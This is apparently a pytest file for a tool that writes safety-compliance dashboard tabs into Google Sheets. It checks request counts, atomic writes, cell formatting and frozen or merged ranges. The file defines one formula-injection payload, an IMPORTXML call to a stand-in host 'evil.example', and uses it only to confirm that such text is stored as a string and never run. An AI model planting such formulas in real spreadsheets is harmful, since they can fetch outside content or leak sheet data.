"""Writing the Dashboard tabs: constant requests, RAW text, nothing else touched, atomic."""

from __future__ import annotations

import re
from datetime import date, datetime

import pandas as pd
import pytest

from jobs.sync import run_sync
from pipeline.errors import SecorError
from pipeline.outputs.dashboard import (
    ACTIONS,
    CERTIFICATIONS,
    CLOSE_DEFICIENCY,
    DATA_ISSUES,
    DEFICIENCIES,
    READINESS,
    SUMMARY,
    TAB_NAMES,
    TOP_HEADER,
    Sheet,
    dashboard_sheets,
)
from pipeline.outputs.sheets import cell, serial
from pipeline.plan.model import ActionPlan
from tests.outputs.dashboard_support import AS_OF, OFFICE_ISSUES, findings_with, plan
from tests.outputs.test_dashboard_layout import HEADER_ROW, HEADERS, STATUSES

from .data import FORMS, FORMS_KEY, OFFICE, OFFICE_KEY
from .emulator import ACCOUNT

FORMULA = '=IMPORTXML("http://evil.example/x", "//a")'


def sheets(n: int) -> tuple[Sheet, ...]:
    """The six tabs with ``n`` rows on Data Issues and Deficiencies."""
    issues = pd.DataFrame({
        "Table": ["FLHA"] * n, "Row": list(range(2, n + 2)), "Column": ["Hazards"] * n,
        "Value": [FORMULA if i == 0 else f"text {i}" for i in range(n)], "Problem": ["required value is blank"] * n})
    deficiencies = pd.DataFrame({
        "ID": [f"PS-{i}" for i in range(n)], "Source": ["Pre-Start"] * n,
        "Found": [pd.Timestamp(2026, 9, 1)] * n, "Description": ["+1 brake light"] * n,
        "Unit Or Site": ["T-12"] * n, "Assigned To": [None] * n, "Due": [pd.NaT] * n,
        "Age Days": [float(i) for i in range(n)], "Status": ["Overdue" if i % 2 else "Open" for i in range(n)]})
    summary = pd.DataFrame([("Company", "Acme", "", ""), ("As of", date(2026, 10, 31), "", ""),
                            ("Last run", datetime(2026, 10, 31, 6, 0, 5), "", ""), ("", "", "", ""),
                            ("Expired tickets", 2, "Expired", "")], columns=["Item", "Value", "Status", "Detail"])
    empty = pd.DataFrame(columns=["Worker", "Role", "Ticket", "Status", "Completed", "Expires", "Days Left"])
    readiness = pd.DataFrame([("Element 1", "E1.1 Safety policy", "Fail", "none", "")],
                             columns=["Element", "Check", "Status", "Detail", "Records"])
    actions = pd.DataFrame([(date(2026, 11, 7), "Ravi Sandhu", "Renew Ravi Sandhu's H2S Alive")],
                           columns=["Due", "Who", "What"])
    return (Sheet(SUMMARY, summary, "Status", filter=False), Sheet(ACTIONS, actions),
            Sheet(CERTIFICATIONS, empty, "Status"), Sheet(DEFICIENCIES, deficiencies, "Status"),
            Sheet(READINESS, readiness, "Status"), Sheet(DATA_ISSUES, issues, None))


def office(emulator):
    return emulator.add_spreadsheet(OFFICE_KEY, "Office records", OFFICE)


def test_write_costs_the_same_requests_for_10_and_10000_rows(emulator, make_source):
    book = office(emulator)
    src = make_source([OFFICE_KEY], timeout_seconds=30.0, max_retry_seconds=60.0)
    counts = []
    for n in (10, 10_000, 10):
        emulator.clear_log()
        written = src.write_dashboards(sheets(n))
        calls = emulator.api_requests()
        counts.append(len(calls))
        assert [(c["method"], c["path"].rsplit("/", 1)[-1]) for c in calls] == [
            ("GET", OFFICE_KEY), ("POST", f"{OFFICE_KEY}:batchUpdate")]
        assert len(written) == 6 and all("docs.google.com/spreadsheets/d/" in w for w in written)
        assert book.tab(DATA_ISSUES).rows()[-1][3] == f"text {n - 1}"
        assert len(book.tab(DATA_ISSUES).rows()) == n + 1  # the 10,000 rows of the previous run are gone
        assert book.tab(DATA_ISSUES).grid["rowCount"] == n + 1
    assert counts == [2, 2, 2]


def test_text_is_written_as_text_never_as_a_formula(emulator, make_source):
    book = office(emulator)
    make_source([OFFICE_KEY]).write_dashboards(sheets(3))
    tab = book.tab(DATA_ISSUES)
    assert tab.value(1, 3) == FORMULA
    assert tab.entered_kind(1, 3) == "stringValue"
    defs = book.tab(DEFICIENCIES)
    assert defs.entered_kind(1, 3) == "stringValue" and defs.value(1, 3) == "+1 brake light"
    assert defs.value(1, 2) == serial(date(2026, 9, 1))  # a date is a serial number with a date format
    assert defs.cells[(1, 2)]["userEnteredFormat"]["numberFormat"]["type"] == "DATE"
    assert defs.value(1, 7) == 0 and defs.entered_kind(1, 7) == "numberValue"
    assert (1, 6) not in defs.cells  # NaT is an empty cell, not "NaT"
    assert defs.cells[(2, 8)]["userEnteredFormat"]["backgroundColor"]["red"] > 0.9  # Overdue is red
    assert tab.cells[(0, 0)]["userEnteredFormat"]["textFormat"]["bold"] is True
    assert tab.properties["gridProperties"]["frozenRowCount"] == 1


def test_no_other_tab_cell_or_format_is_touched(emulator, make_source):
    book = office(emulator)
    before = {t.title: emulator.snapshot(OFFICE_KEY, t.title) for t in book.tabs}
    src = make_source([OFFICE_KEY])
    src.write_dashboards(sheets(5))
    src.write_dashboards(sheets(50))
    assert [t.title for t in book.tabs] == [*OFFICE, *TAB_NAMES]
    for title, text in before.items():
        assert emulator.snapshot(OFFICE_KEY, title) == text, title
    for entry in emulator.api_requests():
        for request in (entry.get("body") or {}).get("requests", []):
            (kind, args), = request.items()
            ids = {v for k, v in _walk(args) if k == "sheetId"}
            assert ids <= {t.sheet_id for t in book.tabs if t.title in TAB_NAMES}, kind


def _walk(node):
    if isinstance(node, dict):
        for k, v in node.items():
            yield k, v
            yield from _walk(v)
    elif isinstance(node, list):
        for v in node:
            yield from _walk(v)


def test_dashboard_tab_carries_last_refreshed_stamp(emulator, make_source):
    book = office(emulator)
    make_source([OFFICE_KEY]).write_dashboards(sheets(1))
    header = book.tab(SUMMARY).rows()[0]
    assert header[:4] == ["Item", "Value", "Status", "Detail"]
    assert header[5] == "Last refreshed" and isinstance(header[6], float) and header[6] > serial(date(2025, 1, 1))


def test_a_failed_write_leaves_the_previous_dashboards_whole(emulator, make_source):
    book = office(emulator)
    src = make_source([OFFICE_KEY], max_attempts=2)
    src.write_dashboards(sheets(20))
    before = {t: emulator.snapshot(OFFICE_KEY, t) for t in TAB_NAMES}
    emulator.inject("500", 2, path=":batchUpdate")
    with pytest.raises(SecorError, match=r"did not answer POST .*:batchUpdate after 2 attempt"):
        src.write_dashboards(sheets(3))
    assert {t: emulator.snapshot(OFFICE_KEY, t) for t in TAB_NAMES} == before
    assert len(book.tab(DATA_ISSUES).rows()) == 21


def test_a_write_applied_after_the_client_timed_out_is_not_doubled(emulator, make_source):
    """The batch that adds the tabs times out but Google applied it: the retry rebuilds without addSheet."""
    book = office(emulator)
    emulator.inject("slow", 1, delay=0.8, path=":batchUpdate")
    make_source([OFFICE_KEY]).write_dashboards(sheets(4))
    assert [t.title for t in book.tabs].count(SUMMARY) == 1
    assert len(book.tab(DATA_ISSUES).rows()) == 5


def test_write_into_a_spreadsheet_not_shared_as_editor(emulator, make_source):
    emulator.add_spreadsheet(OFFICE_KEY, "Office records", OFFICE, shared=False)
    with pytest.raises(SecorError, match=re.escape(f"Share it with {ACCOUNT} as Editor")):
        make_source([OFFICE_KEY]).write_dashboards(sheets(1))


def test_sync_reads_and_writes_in_six_requests(emulator, make_settings):
    emulator.add_spreadsheet(OFFICE_KEY, "Office records", OFFICE)
    emulator.add_spreadsheet(FORMS_KEY, "Forms", FORMS)
    settings = make_settings([OFFICE_KEY, FORMS_KEY])
    result = run_sync(settings, as_of=date(2026, 10, 31))
    assert len(emulator.api_requests()) == 6  # 2 per spreadsheet read + 2 to write
    assert len(result.written) == 6
    book = emulator.spreadsheets[OFFICE_KEY]
    assert book.tab(SUMMARY).rows()[1][:2] == ["Company", "Demo Company"]
    assert book.tab(CERTIFICATIONS).rows()[0] == ["Worker", "Status", "Expires", "Ticket", "Days Left", "Role",
                                                   "Completed"]
    emulator.clear_log()
    run_sync(settings, as_of=date(2026, 10, 31))  # the dashboards are not read back as sources
    assert len(emulator.api_requests()) == 6


def test_cell_values_are_serialised_deliberately():
    import numpy as np

    assert cell(np.int64(3)) == {"userEnteredValue": {"numberValue": 3}}
    assert cell(float("nan")) == {} and cell(pd.NaT) == {} and cell(None) == {} and cell("") == {}
    assert cell(np.bool_(True)) == {"userEnteredValue": {"boolValue": True}}
    assert cell(float("inf")) == {"userEnteredValue": {"stringValue": "inf"}}
    assert cell(pd.Timestamp(2026, 1, 2, 3, 4))["userEnteredFormat"]["numberFormat"]["type"] == "DATE_TIME"
    assert len(cell("x" * 60_000)["userEnteredValue"]["stringValue"]) == 50_000


def test_an_office_tab_named_like_a_dashboard_tab_in_another_case_is_named_with_what_to_rename(
        emulator, make_source):
    book = office(emulator)
    emulator.add_tab(book, "dashboard - data issues", [["my notes"]])
    before = emulator.snapshot(OFFICE_KEY, "dashboard - data issues")
    with pytest.raises(SecorError, match="has a tab 'dashboard - data issues'") as caught:
        make_source([OFFICE_KEY]).write_dashboards(sheets(1))
    assert "Rename the tab 'dashboard - data issues'" in (caught.value.fix or "")
    assert emulator.snapshot(OFFICE_KEY, "dashboard - data issues") == before
    assert SUMMARY not in [t.title for t in book.tabs]  # nothing half written


def test_frozen_columns_left_by_the_office_do_not_stop_the_rewrite(emulator, make_source):
    book = office(emulator)
    src = make_source([OFFICE_KEY])
    src.write_dashboards(sheets(1))
    tab = book.tab(DATA_ISSUES)
    tab.properties["gridProperties"].update(frozenColumnCount=6, columnCount=9)
    src.write_dashboards(sheets(2))  # Data Issues has 5 columns: 6 frozen would be refused as "all"
    assert book.tab(DATA_ISSUES).properties["gridProperties"]["frozenColumnCount"] == 0
    assert len(book.tab(DATA_ISSUES).rows()) == 3


def _dashboard(the_plan=None):
    f = findings_with(FORMULA, plan(12) if the_plan is None else the_plan, OFFICE_ISSUES)
    return dashboard_sheets(f, STATUSES, datetime(2026, 11, 21, 6, 0), "Google Sheets")


def test_google_tabs_have_the_workbooks_columns_frozen_id_and_header(emulator, make_source):
    book = office(emulator)
    make_source([OFFICE_KEY]).write_dashboards(_dashboard())
    frozen = {}
    for title, headers in HEADERS.items():
        tab = book.tab(title)
        header = HEADER_ROW.get(title, 1) - 1
        assert tab.rows()[header][:len(headers)] == headers, title
        grid = tab.grid
        frozen[title] = (grid["frozenRowCount"], grid["frozenColumnCount"])
    assert frozen == {SUMMARY: (1, 1), ACTIONS: (1, 0), CERTIFICATIONS: (1, 1), DEFICIENCIES: (2, 1),
                      READINESS: (1, 1), DATA_ISSUES: (1, 0)}


def test_google_readiness_is_a_number_formatted_as_percent(emulator, make_source):
    book = office(emulator)
    make_source([OFFICE_KEY]).write_dashboards(_dashboard())
    tab = book.tab(SUMMARY)
    r = [row[0] if row else "" for row in tab.rows()].index("Overall readiness")
    assert tab.entered_kind(r, 1) == "numberValue" and 0 <= tab.value(r, 1) <= 1
    assert tab.cells[(r, 1)]["userEnteredFormat"]["numberFormat"] == {"type": "PERCENT", "pattern": "0%"}


def test_google_summary_has_no_filter_even_if_one_was_left_and_the_lists_have_theirs(emulator, make_source):
    book = office(emulator)
    src = make_source([OFFICE_KEY])
    src.write_dashboards(_dashboard())
    book.tab(SUMMARY).basic_filter = {"range": {"sheetId": book.tab(SUMMARY).sheet_id}}  # left by hand
    src.write_dashboards(_dashboard())
    assert book.tab(SUMMARY).basic_filter is None
    assert book.tab(DEFICIENCIES).basic_filter["range"]["startRowIndex"] == 1  # the header, below the sentence
    assert book.tab(DATA_ISSUES).basic_filter["range"]["startRowIndex"] == 0


def test_google_deficiencies_sentence_spans_the_tab_and_rows_fit_their_text(emulator, make_source):
    book = office(emulator)
    src = make_source([OFFICE_KEY])
    for _ in range(2):  # merging the same range again is accepted
        src.write_dashboards(_dashboard())
    tab = book.tab(DEFICIENCIES)
    assert (tab.value(0, 0), tab.value(0, 1)) == CLOSE_DEFICIENCY
    assert tab.cells[(0, 1)]["userEnteredFormat"]["wrapStrategy"] == "WRAP"
    # Merged right of the frozen ID column: Google refuses to freeze part of a merged cell.
    assert tab.merges == [(0, 1, 1, 10)] and tab.grid["frozenColumnCount"] == 1
    assert tab.dimensions["ROWS"][0] > 21
    assert {1, 2} <= tab.auto_resized["ROWS"]  # header and data rows sized by Sheets to their wrapped text
    assert tab.entered_kind(2, 4) == "stringValue" and tab.value(2, 4) == FORMULA
    # In a row with wrapped text, every value sits at the top of the row, level with its first line.
    checked = 0
    for name in TAB_NAMES:
        cells = book.tab(name).cells
        tall = {r for (r, c), v in cells.items() if v.get("userEnteredFormat", {}).get("wrapStrategy")}
        for (r, c), v in cells.items():
            if r in tall and "userEnteredValue" in v and not (name == DEFICIENCIES and r == 0):
                assert v["userEnteredFormat"]["verticalAlignment"] == "TOP", (name, r, c)
                checked += 1
    assert checked > 10


def test_google_actions_tab_and_the_summarys_top_actions_show_the_plan_as_given(emulator, make_source):
    book = office(emulator)
    the_plan = plan(12)
    make_source([OFFICE_KEY]).write_dashboards(_dashboard(the_plan))
    listed = book.tab(ACTIONS).rows()[1:]
    assert [r[2] for r in listed] == [a.what for a in the_plan]
    assert [r[10] for r in listed] == list(range(1, 13))
    assert listed[0][0] == serial(date(2026, 11, 28))
    summary = [r[0] if r else "" for r in book.tab(SUMMARY).rows()]
    first = summary.index(TOP_HEADER) + 1
    assert summary[first:first + 10] == [f"{a.rank}. {a.what}" for a in the_plan.top(10)]
    assert book.tab(SUMMARY).cells[(first - 1, 0)]["userEnteredFormat"]["textFormat"]["bold"] is True


def test_google_empty_plan_says_nothing_to_do(emulator, make_source):
    book = office(emulator)
    make_source([OFFICE_KEY]).write_dashboards(_dashboard(ActionPlan(AS_OF, ())))
    assert book.tab(ACTIONS).rows()[1][2] == "Nothing to do as of 2026-11-21"


def test_freezing_part_of_the_merged_sentence_is_refused_as_by_google(emulator, make_source):
    """Why the sentence starts right of the ID column: a frozen column through a merged cell is refused."""
    from gspread.exceptions import APIError

    book = office(emulator)
    src = make_source([OFFICE_KEY])
    src.write_dashboards(_dashboard())
    tab = book.tab(DEFICIENCIES)
    freeze_two = {"updateSheetProperties": {"properties": {"sheetId": tab.sheet_id, "gridProperties": {
        "frozenColumnCount": 2}}, "fields": "gridProperties.frozenColumnCount"}}
    with pytest.raises(APIError, match="part of a merged cell"):
        src.http.batch_update(OFFICE_KEY, {"requests": [freeze_two]})
    assert tab.grid["frozenColumnCount"] == 1


def test_a_merge_left_by_hand_on_a_dashboard_tab_does_not_stop_the_frozen_id_column(emulator, make_source):
    book = office(emulator)
    src = make_source([OFFICE_KEY])
    src.write_dashboards(_dashboard())
    book.tab(READINESS).merges.append((3, 4, 0, 3))  # someone merged A4:C4
    src.write_dashboards(_dashboard())
    assert book.tab(READINESS).merges == [] and book.tab(READINESS).grid["frozenColumnCount"] == 1
